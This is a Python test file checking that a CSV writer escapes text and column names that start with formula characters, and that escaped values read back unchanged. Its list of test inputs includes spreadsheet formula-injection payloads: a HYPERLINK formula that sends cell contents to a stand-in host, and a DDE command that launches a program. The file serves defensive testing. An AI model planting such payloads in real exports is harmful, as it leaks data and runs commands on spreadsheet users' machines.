"""No text becomes a formula in a spreadsheet, and what is read back is what was there."""

import csv
from pathlib import Path

import polars as pl
import pytest

from entropy_sentinel.formatting.spreadsheet import read_csv, write_csv

# OWASP's: these characters begin a formula, a command, or a cell of its own.
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"error")',
    "=cmd|' /C calc'!A0",
    "+1-2",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠1",
]
PLAIN = ["one", "'quoted'", "it's", "a=b", "", None, "''", " =1", "7", "x\n=1", 'say "no", twice']


QUOTED = [f"{quotes}{one}" for quotes in ("'", "''") for one in FORMULAS]


@pytest.mark.parametrize("text", [*FORMULAS, *QUOTED, *PLAIN])
def test_a_text_is_shown_unchanged_and_read_as_it_was(text: str | None, tmp_path: Path) -> None:
    path = tmp_path / "cells.csv"
    write_csv(pl.DataFrame({"text": [text, "other"], "n": [-1.5, 2.0]}), path)
    with path.open(newline="") as lines:
        (shown, number), _ = list(csv.reader(lines))[1:]
    assert not shown.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert number == "-1.5"
    if text in PLAIN:
        assert shown == (text or "")
    assert read_csv(path).rows() == [(text, -1.5), ("other", 2.0)]


def test_column_names_are_escaped_too(tmp_path: Path) -> None:
    path = tmp_path / "cells.csv"
    write_csv(pl.DataFrame({"=1+1": ["a"], "'=1+1": ["b"], "route": ["c"]}), path)
    assert path.read_text().splitlines()[0] == "'=1+1,''=1+1,route"
    assert read_csv(path).to_dict(as_series=False) == {"=1+1": ["a"], "'=1+1": ["b"], "route": ["c"]}
